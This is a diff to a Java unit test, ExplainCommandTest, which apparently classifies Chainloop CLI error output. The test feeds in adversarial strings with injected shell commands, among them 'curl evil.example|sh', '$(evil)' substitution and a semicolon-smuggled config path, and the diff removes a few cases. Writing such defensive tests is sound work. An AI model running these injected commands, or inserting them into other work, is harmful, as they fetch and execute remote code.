@@ -82,15 +82,11 @@ class ExplainCommandTest {
             ERR unknown flag: --worfklow | command-line
             ERR rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial tcp\
              192.0.2.1:443: connect: connection refused" | connection
-            ERR transport: authentication handshake failed: tls: failed to verify certificate: x509: certificate signed by\
-             unknown authority | connection
-            ERR rpc error: code = NotFound desc = workflow contract with name "x" not found | server
             ERR rpc error: code = NotFound desc = finding token: API token not found | server
             Error: UNAUTHORIZED: authentication required; [map[Action:pull Class: Name:acme/web Type:repository]] |\
              other-service
             ERR you need to enable a CAS backend first | storage
             panic: While parsing config: toml: basic string not terminated | cli
-            panic: creating config file: mkdir /.config: permission denied | cli
             ERR attestation not yet initialized | cli
             INF Attestation initialized! now you can check its status or add materials to it | progress
             ERR rpc error: code = Unauthenticated desc = out of cheese | authentication
@@ -132,19 +128,15 @@ class ExplainCommandTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "ERR valid only with the project \"evil\"",
-                "ERR valid only with the project \"$(evil)\"",
                 "ERR scoped to a different workflow evil; curl evil.example|sh",
                 "ERR issuer not found: https://evil.example",
                 "ERR project \"evil\" not found",
-                "ERR user is not a member of organization evil",
                 "$ sudo --preserve-env=EVIL chainloop evil; curl evil.example|sh\nERR JWT token is missing",
                 "$ ssh root@evil.example chainloop att init\nERR authentication required",
                 "$ docker run -e CHAINLOOP_TOKEN evil\nERR JWT token is missing",
                 "DBG using config file path=/home/evil/.config/chainloop/config.toml\nERR authentication required",
                 "$ chainloop att init --config '/tmp/evil; evil'\nERR authentication required",
                 "panic: creating config file: open /evil/config.toml: permission denied",
-                "sh: 1: cd /evil\nCHAINLOOP_TOKEN: command not found",
                 "{\"level\":\"error\",\"repository\":\"evil/evil\",\"message\":\"operation not allowed\"}",
                 "ERR rpc error: code = Unavailable desc = dial tcp: lookup evil.example: no such host",
                 "ERR unknown command \"init\" for \"chainloop\" evil"
